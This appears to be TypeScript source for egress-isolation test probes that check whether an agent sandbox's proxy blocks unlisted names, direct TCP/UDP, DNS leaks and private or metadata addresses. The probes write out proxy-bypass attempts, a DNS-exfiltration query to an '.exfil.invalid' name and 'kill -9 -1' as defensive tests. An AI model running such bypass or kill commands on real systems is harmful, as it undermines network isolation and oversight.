// Probes 23–26, for agents with command_line_egress: the allowlisted probe name answers through the
// relay and the proxy (readiness: every refusal below is believed only after it), a non-listed name
// is refused by the proxy itself (403, its header, no DNS lookup made for it), nothing gets out
// around the proxy (no variables, raw addresses, UDP, DNS), and metadata/private addresses are
// refused even behind a listed name. The names and the server are verify's own (isolation/egress.ts).
import {
  checkAddresses,
  CLASS_WORDS,
  compileEgressPolicy,
  EGRESS_DIR_IN_SANDBOX
} from '../../runtime/egress/index.js'
import type { EgressFixture } from '../egress.js'
import { fail, isOutcome, list, NO_PYTHON, pass, python, sh, skip, tagged } from '../outcome.js'
import type {
  Probe,
  ProbeContext,
  ProbeDef,
  ProbeOutcome,
  SandboxContext,
  SrtProbeContext
} from '../types.js'

export const NO_EGRESS =
  'the agent has no command_line_egress: its network is none, which probe 4 (network) checks'

/** One curl per spec, as the agent, with the sandbox's own environment (proxy variables set). */
const CURL = `
import json, os, shutil, subprocess, sys, tempfile
if not shutil.which('curl'):
    print('NOCURL')
    sys.exit(0)
for s in json.loads(sys.argv[1]):
    env = dict(os.environ)
    if s.get('unset'):
        for k in list(env):
            if k.lower() in ('http_proxy', 'https_proxy', 'all_proxy', 'no_proxy'):
                del env[k]
    d = tempfile.mkdtemp()
    args = ['curl', '-sS', '-m', str(s.get('timeout', 15)), '-D', d + '/h', '-o', d + '/b',
            '-w', '%{http_code} %{http_connect}'] + s.get('args', []) + [s['url']]
    p = subprocess.run(args, env=env, capture_output=True, text=True)
    def read(n):
        try:
            with open(os.path.join(d, n), 'rb') as f:
                return f.read(4096).decode('utf-8', 'replace')
        except OSError:
            return ''
    rules = [l.split(':', 1)[1].strip() for l in read('h').splitlines()
             if l.lower().startswith('x-massgen-egress:')]
    code, connect = (p.stdout.split() + ['000', '000'])[:2]
    body = read('b')[:300]
    shutil.rmtree(d, ignore_errors=True)
    print('RESULT ' + json.dumps({'tag': s['tag'], 'rc': p.returncode, 'code': code,
          'connect': connect, 'rule': rules[-1] if rules else '', 'body': body,
          'err': p.stderr.strip()[:300]}))
`

export interface CurlSpec {
  tag: string
  url: string
  args?: string[]
  unset?: boolean
  timeout?: number
}

export interface CurlResult {
  tag: string
  rc: number
  code: string
  connect: string
  rule: string
  body: string
  err: string
}

export type Egress = NonNullable<ProbeContext['egress']>

/** Runs the specs as the agent (any sandbox whose proxy is reached through HTTP_PROXY: srt too). */
export async function curl(
  ctx: Pick<ProbeContext, 'agentExec'>,
  specs: CurlSpec[]
): Promise<Map<string, CurlResult> | ProbeOutcome> {
  const script = `command -v python3 >/dev/null || { echo NOPYTHON; exit 0; }\n${python(CURL, [JSON.stringify(specs)])}`
  const r = await ctx.agentExec(script, { timeoutMs: 30_000 + specs.length * 20_000 })
  if (r.stdout.includes('NOPYTHON')) return skip(NO_PYTHON)
  if (r.stdout.includes('NOCURL')) return skip('curl is not in the image')
  const out = new Map<string, CurlResult>()
  for (const line of tagged(r.stdout, 'RESULT')) {
    const res = JSON.parse(line) as CurlResult
    out.set(res.tag, res)
  }
  const missing = specs.filter((s) => !out.has(s.tag))
  if (missing.length)
    return fail(
      `the requests did not complete (exit ${r.exitCode}; missing ${list(missing.map((s) => s.tag))})`
    )
  return out
}

export function said(r: CurlResult): string {
  if (r.code !== '000')
    return `HTTP ${r.code}${r.rule ? ` (${r.rule})` : ''}${r.body ? `: ${r.body.trim().slice(0, 120)}` : ''}`
  return `curl exit ${r.rc}${r.err ? `: ${r.err.slice(0, 120)}` : ''}`
}

export function url(f: EgressFixture, host: string): string {
  return `http://${host.includes(':') ? `[${host}]` : host}:${f.port}/`
}

/** The allowlisted name answers: what every refusal below is measured against. */
export async function ready(
  ctx: Pick<ProbeContext, 'agentExec'>,
  e: Egress
): Promise<ProbeOutcome | undefined> {
  const res = await curl(ctx, [{ tag: 'allowed', url: url(e.fixture, e.fixture.allowedName) }])
  if (isOutcome(res)) return res
  const r = res.get('allowed')!
  if (r.code === '200' && r.body.includes(e.fixture.token)) return undefined
  return fail(
    `not ready: the allowlisted probe name ${e.fixture.allowedName} did not answer through the relay and proxy (${said(r)}), so a refusal could not be told from a broken path`
  )
}

/**
 * An egress probe's run: a skip for an agent without egress, a fail when the allowlisted name
 * does not answer (a refusal could not be told from a broken path); `check` does the rest.
 */
export function withEgress<C extends Pick<ProbeContext, 'agentExec' | 'egress'>>(
  check: (ctx: C, e: Egress, fixture: EgressFixture) => Promise<ProbeOutcome>
): (ctx: C) => Promise<ProbeOutcome> {
  return async (ctx) => {
    const e = ctx.egress
    if (!e) return skip(NO_EGRESS)
    return (await ready(ctx, e)) ?? check(ctx, e, e.fixture)
  }
}

const RELAYS = `ps -eo uid=,args= | grep -E ${sh(`${EGRESS_DIR_IN_SANDBOX}/forward\\.(py|mjs)`)} | grep -v -e --probe -e grep | sed 's/^ */RELAY /'`

export const egressAllowedProbe: Probe = {
  id: 'egress-allowed',
  number: 23,
  title:
    'egress: an allowlisted name answers through the relay and the proxy; the relay is not the agent’s and survives its kill -9 -1',
  phase: 'parallel',
  run: withEgress<ProbeContext>(async (ctx, e) => {
    const ps = await ctx.agentExec(RELAYS)
    const relays = tagged(ps.stdout, 'RELAY').map((l) => Number(l.split(/\s+/)[0]))
    const problems: string[] = []
    if (!relays.length) problems.push('no egress relay process is visible in the container')
    if (relays.includes(ctx.uid))
      problems.push(
        `the egress relay runs as the agent's uid ${ctx.uid}: the agent can end or replace it`
      )
    // What a timeout does to the agent's processes; the relay must not be one of them.
    await ctx.agentExec('kill -9 -1 2>/dev/null; true')
    const again = await curl(ctx, [{ tag: 'after', url: url(e.fixture, e.fixture.allowedName) }])
    if (isOutcome(again)) return again
    const r = again.get('after')!
    if (r.code !== '200')
      problems.push(
        `after the agent's kill -9 -1 the allowlisted name no longer answers (${said(r)})`
      )
    if (problems.length) return fail(list(problems))
    return pass(
      `${e.fixture.allowedName}:${e.fixture.port} answered 200 through the relay (uid ${list(relays.map(String))}) and the proxy, and again after the agent's kill -9 -1`
    )
  })
}

export const egressRefusedProbe: ProbeDef<SandboxContext> = {
  id: 'egress-refused',
  number: 24,
  title:
    'egress: a non-listed name, an IP literal and a CONNECT are refused by the proxy (403), a refused name is never resolved, a step with egress: false gets nothing',
  phase: 'parallel',
  run: withEgress<SandboxContext>(async (ctx, e, f) => {
    const dnsName = f.dnsName(`q${Date.now().toString(36)}`)
    const res = await curl(ctx, [
      { tag: 'denied', url: url(f, f.deniedName) },
      { tag: 'connect', url: url(f, f.deniedName), args: ['-p'] },
      { tag: 'ip', url: url(f, f.address) },
      { tag: 'dns', url: url(f, dnsName) }
    ])
    if (isOutcome(res)) return res
    const problems: string[] = []
    const denied = res.get('denied')!
    if (denied.code !== '403' || denied.rule !== 'not-listed')
      problems.push(`the non-listed name got ${said(denied)}`)
    const connect = res.get('connect')!
    if (connect.connect !== '403')
      problems.push(`CONNECT to the non-listed name got ${said(connect)}`)
    const ip = res.get('ip')!
    if (ip.code !== '403') problems.push(`the IP literal ${f.address} got ${said(ip)}`)
    const dns = res.get('dns')!
    if (dns.code !== '403') problems.push(`a non-listed name under the DNS label got ${said(dns)}`)
    if (f.resolved().includes(dnsName))
      problems.push(
        `the proxy resolved the non-listed name ${dnsName} (a DNS query left the runner)`
      )

    ctx.session.beginStep({ index: 1, name: 'verify-isolation: egress off', egress: false })
    let off: Map<string, CurlResult> | ProbeOutcome
    try {
      off = await curl(ctx, [{ tag: 'off', url: url(f, f.allowedName) }])
    } finally {
      ctx.session.beginStep({ index: 0, name: 'verify-isolation', egress: true })
    }
    if (isOutcome(off)) return off
    const o = off.get('off')!
    if (o.code !== '403' || o.rule !== 'egress-off')
      problems.push(`with egress: false the allowlisted name got ${said(o)}`)
    if (problems.length) {
      const audit = e.config.audit ? ' (audit mode lets every name through by design)' : ''
      return fail(`${list(problems)}${audit}`)
    }
    return pass(
      `403 from the proxy for the non-listed name (plain and CONNECT), the IP literal and a DNS-label name, which was never resolved; with egress off the allowlisted name got 403 too`
    )
  })
}

/** TCP and UDP straight from the sandbox: to the host's addresses, a public one, the resolvers. */
const DIRECT = `
import socket, sys
token, tcp_port, udp_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
hosts = sys.argv[4:]
def tcp(host, port):
    fam = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        try:
            s.recv(64)
        except OSError:
            pass
        print('REACHED tcp', host, port)
    except OSError as e:
        print('REFUSED tcp', host, port, e.__class__.__name__)
    finally:
        s.close()
for h in hosts:
    tcp(h, tcp_port)
for h in ('1.1.1.1', '8.8.8.8', '2606:4700:4700::1111'):
    tcp(h, 443)
name = token + '.exfil.invalid'
query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(
    bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
resolvers = []
try:
    for line in open('/etc/resolv.conf'):
        parts = line.split()
        if len(parts) >= 2 and parts[0] == 'nameserver':
            resolvers.append(parts[1])
except OSError:
    pass
for h, port in [(h, udp_port) for h in hosts] + [(r, 53) for r in resolvers] + [('8.8.8.8', 53)]:
    fam = socket.AF_INET6 if ':' in h else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(query, (h, port))
        s.recvfrom(512)
        print('REACHED udp', h, port, 'answered')
    except socket.timeout:
        print('SENT udp', h, port)
    except OSError as e:
        print('REFUSED udp', h, port, e.__class__.__name__)
    finally:
        s.close()
try:
    print('RESOLVED', socket.getaddrinfo('github.com', 443)[0][4][0])
except OSError as e:
    print('NORESOLVE', e.__class__.__name__)
`

export const egressBypassProbe: ProbeDef<SandboxContext> = {
  id: 'egress-bypass',
  number: 25,
  title:
    'egress: nothing gets out around the proxy (no proxy variables, raw IP over TCP, UDP, DNS)',
  phase: 'parallel',
  run: withEgress<SandboxContext>(async (ctx, e, f) => {
    const addresses = ctx.host.listener.addresses
    const res = await curl(ctx, [
      { tag: 'unset', url: url(f, f.allowedName), unset: true, timeout: 8 },
      ...addresses.map((a) => ({
        tag: `direct ${a}`,
        url: url(f, a),
        args: ['--noproxy', '*'],
        timeout: 5
      }))
    ])
    if (isOutcome(res)) return res
    const problems: string[] = []
    const unset = res.get('unset')!
    if (unset.rc === 0 || unset.body.includes(f.token))
      problems.push(
        `without the proxy variables the allowlisted name still answered (${said(unset)})`
      )
    const direct = addresses.filter((a) => {
      const r = res.get(`direct ${a}`)!
      return r.rc === 0 || r.body.includes(f.token)
    })
    if (direct.length) problems.push(`reached the host's server directly on ${list(direct)}`)
    const tag = `x${Date.now().toString(36)}${ctx.uid}`
    const raw = await ctx.agentExec(
      `command -v python3 >/dev/null || { echo NOPYTHON; exit 0; }\n` +
        python(DIRECT, [tag, String(ctx.host.listener.port), String(f.udpPort), ...addresses]) +
        `\nif getent hosts ${sh(f.allowedName)} >/dev/null 2>&1 || getent hosts github.com >/dev/null 2>&1; then echo "GETENT resolved"; fi\necho DONE`,
      { timeoutMs: 120_000 }
    )
    if (raw.stdout.includes('NOPYTHON')) return skip(NO_PYTHON)
    if (!raw.stdout.includes('DONE'))
      return fail(`the direct attempts did not complete (exit ${raw.exitCode})`)
    const reached = tagged(raw.stdout, 'REACHED')
    if (reached.length) problems.push(`direct connections: ${list(reached)}`)
    // A datagram that left without an answer is caught by the host's listener.
    await new Promise((r) => setTimeout(r, 300))
    if (f.udpSeen(tag))
      problems.push(`a UDP datagram (a DNS query) from the sandbox reached the host`)
    if (tagged(raw.stdout, 'RESOLVED').length || tagged(raw.stdout, 'GETENT').length)
      problems.push('names resolve inside the sandbox')
    if (problems.length) return fail(list(problems))
    const tried = tagged(raw.stdout, 'REFUSED').length + tagged(raw.stdout, 'SENT').length
    return pass(
      `without the proxy variables the allowlisted name does not resolve; ${addresses.length} host address(es) unreachable by HTTP, ${tried} raw TCP/UDP attempts (host, public, resolvers) got nowhere; no name resolves inside`
    )
  })
}

export const egressPrivateProbe: ProbeDef<SandboxContext> = {
  id: 'egress-private',
  number: 26,
  title:
    'egress: a listed name that resolves to a metadata, link-local, private, loopback or unique-local address is refused by the proxy',
  phase: 'parallel',
  run: withEgress<SandboxContext>(async (ctx, e, f) => {
    const policy = compileEgressPolicy(e.config)
    // What the config itself lists is its choice, except a metadata endpoint: that is never safe.
    const listed = f.targets.filter(
      (t) => t.cls !== 'metadata' && checkAddresses(policy, [t.address]).kept.length > 0
    )
    const tested = f.targets.filter((t) => !listed.includes(t))
    const res = await curl(
      ctx,
      tested.map((t) => ({ tag: t.name, url: url(f, t.name), timeout: 10 }))
    )
    if (isOutcome(res)) return res
    // Refused at dial time, after the name passed: the library's 403 with its header, our reason.
    const notRefused = tested.filter((t) => {
      const r = res.get(t.name)!
      return r.code !== '403' || !r.rule || !r.body.includes(`resolves to ${CLASS_WORDS[t.cls]}`)
    })
    const note = listed.length
      ? `; not tested, listed in allowed_private_ranges: ${list(listed.map((t) => t.address))}`
      : ''
    if (notRefused.length)
      return fail(
        `not refused by the address rule: ${list(
          notRefused.map((t) => `${t.address} (${t.cls}): ${said(res.get(t.name)!)}`),
          4
        )}${note}`
      )
    return pass(
      `403 from the proxy for ${tested.length} listed names resolving to ${list(
        tested.map((t) => t.address),
        8
      )}${note}`
    )
  })
}

export const srtEgressAllowedProbe: ProbeDef<SrtProbeContext> = {
  id: 'egress-allowed',
  number: 23,
  phase: 'parallel',
  title:
    "egress: an allowlisted name answers through sandbox-runtime's bridge and the agent's proxy, and again in the next step after the agent's kill -9 -1",
  run: withEgress<SrtProbeContext>(async (ctx, e) => {
    // The bridge's relay runs in the sandbox as the agent: it may end it, but only for its own
    // step; the next step has a bridge of its own.
    await ctx.agentExec('kill -9 -1 2>/dev/null; true')
    const again = await curl(ctx, [{ tag: 'after', url: url(e.fixture, e.fixture.allowedName) }])
    if (isOutcome(again)) return again
    const r = again.get('after')!
    if (r.code !== '200' || !r.body.includes(e.fixture.token))
      return fail(
        `after the agent's kill -9 -1 the allowlisted name no longer answers in the next step (${said(r)})`
      )
    return pass(
      `${e.fixture.allowedName}:${e.fixture.port} answered 200 through the bridge and the agent's proxy, and again in the next step after the agent's kill -9 -1`
    )
  })
}
